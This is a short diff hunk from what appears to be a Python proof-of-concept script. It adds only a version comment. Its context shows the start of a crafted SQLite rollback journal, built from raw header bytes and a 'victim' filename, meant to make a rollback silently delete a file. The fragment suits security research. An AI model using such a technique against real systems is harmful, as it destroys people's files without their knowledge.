@@ -408,6 +408,7 @@ base.__init__(evil)
 base.execute("create table t (x)")
 
 # %% sqlite journal — what is rolled back names a file that is to be deleted, without an event or a question
+# sqlite: 3.52
 import sqlite3, struct
 sqlite3.connect("mine.db").execute("create table t (x)").connection.close()
 magic, name = bytes.fromhex("d9d505f920a163d7"), victim.encode()
